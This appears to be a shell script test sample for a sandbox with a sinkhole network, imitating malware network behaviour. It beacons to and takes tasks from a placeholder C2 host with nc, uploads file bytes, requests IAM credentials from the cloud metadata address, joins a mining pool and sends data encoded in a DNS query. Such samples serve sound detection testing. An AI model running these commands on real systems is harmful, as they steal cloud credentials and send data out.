#!/bin/sh
# Believes it is online (run with --network sinkhole): resolves its C2, beacons over HTTP, takes a
# task over HTTP on a non-standard port, uploads data, asks for cloud credentials, joins a mining
# pool speaking stratum, and sends a DNS TXT question with data encoded in the name.
/bin/nslookup c2.evil.example
printf 'GET /beacon?id=42 HTTP/1.1\r\nHost: c2.evil.example\r\n\r\n' | /bin/nc -w 2 c2.evil.example 80
printf 'GET /task HTTP/1.1\r\nHost: c2.evil.example\r\n\r\n' | /bin/nc -w 2 c2.evil.example 8531
(printf 'POST /upload HTTP/1.1\r\nHost: c2.evil.example\r\nContent-Length: 8000\r\n\r\n'; /bin/head -c 8000 /bin/busybox) | /bin/nc -w 2 c2.evil.example 80
printf 'GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\r\n\r\n' | /bin/nc -w 2 169.254.169.254 80
printf '{"id":1,"method":"mining.subscribe","params":["xmrig/6.21"]}\n' | /bin/nc -w 2 pool.minexmr.example 3333
/bin/nslookup -type=txt 6578666c74726174696f6e2d6f662d64617461.data.evil.example
echo "[corpus] sinkhole c2 done"
